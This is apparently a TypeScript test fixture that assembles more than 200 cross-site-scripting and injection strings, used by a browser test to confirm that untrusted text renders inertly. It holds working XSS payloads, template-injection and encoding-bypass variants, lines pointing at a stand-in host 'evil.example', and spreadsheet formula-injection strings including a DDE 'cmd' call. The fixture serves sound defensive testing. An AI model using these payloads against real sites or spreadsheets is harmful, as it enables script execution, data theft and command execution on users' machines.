/** What a text may try in order to leave its place before it begins. */
const exits = ["", '">', "'>", "</textarea>", "</script>", "</title>", "-->", "\"}]}'>"];

/** What it then tries; `canary()` is a function that the browser test listens to. */
const bodies = [
  "<script>canary()</script>",
  "<ScRiPt>canary()</sCrIpT>",
  "<script/x>canary()</script >",
  "<img src=x onerror=canary()>",
  "<IMG/SRC=x\tONERROR=canary()>",
  "<svg onload=canary()>",
  "<svg><script>canary()",
  "<iframe srcdoc=<script>canary()>",
  "<a href=javascript:canary()>x</a>",
  '<a href="java&#9;script:canary()">',
  "<details open ontoggle=canary()>",
  "<input autofocus onfocus=canary()>",
  "<body onload=canary()>",
  "<style>@import'//evil.example'",
  "<base href=//evil.example>",
  "<meta http-equiv=refresh content=0>",
  "<form action=//evil.example><button>",
  "<template><img onerror=canary()>",
  "<math><mtext><img src onerror=canary()>",
  "<object data=javascript:canary()>",
  "<link rel=stylesheet href=//evil.example>",
  '" onmouseover=canary() x="',
  "' onclick=canary() x='",
  "` onfocus=canary() `",
  'x" style="position:fixed" y="',
];

/** Texts that need no markup: other languages, templates, bytes, formulas, names of code. */
const others = [
  "javascript:canary()",
  "data:text/html,<script>canary()",
  "{{canary()}}",
  "${canary()}",
  "<%= canary() %>",
  "#{canary()}",
  "{{constructor.constructor('canary()')()}}",
  "\\u003cscript\\u003ecanary()\\u003c/script\\u003e",
  "&lt;script&gt;canary()&lt;/script&gt;",
  "&#60;img src=x onerror=canary()&#62;",
  "%3Cscript%3Ecanary()%3C/script%3E",
  "＜script＞canary()＜/script＞",
  "<\u200bscript>canary()</script>",
  "\u2028canary()\u2029//",
  "');canary();('",
  '");canary();("',
  "\\');canary();//",
  "*/canary()/*",
  "]]><script>canary()</script>",
  "<!--<img src=x onerror=canary()>",
  "<![CDATA[<script>canary()]]>",
  "<?xml version='1.0'?><x>",
  "__proto__",
  "[object Object]",
  "=canary()",
  '+HYPERLINK("//evil.example")',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd",
  "＝canary()",
  "$& $1 $` $'",
  "%s%n%x",
  "\u202ecanary()\u202c",
];

/** More than 200 texts that must be shown as text only. */
export const hostileTexts: readonly string[] = [
  ...exits.flatMap((exit) => bodies.map((body) => exit + body)),
  ...others,
];
